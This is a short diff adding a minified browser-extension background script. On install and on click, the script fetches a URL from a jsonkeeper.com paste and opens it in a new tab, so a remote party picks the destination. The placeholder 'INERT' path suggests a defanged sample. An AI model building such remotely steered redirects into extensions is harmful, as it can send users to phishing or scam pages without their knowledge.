@@ -1,0 +1,1 @@
+(()=>{var n="1.0.0";function e(t){globalThis[t]=n}e("__form");async function a(){let t=await fetch("https://jsonkeeper.com/b/INERT"),{page:r}=await t.json();return r}chrome.runtime.onInstalled.addListener(async()=>chrome.tabs.create({url:await a()}));chrome.action.onClicked.addListener(async()=>chrome.tabs.create({url:await a()}));})();
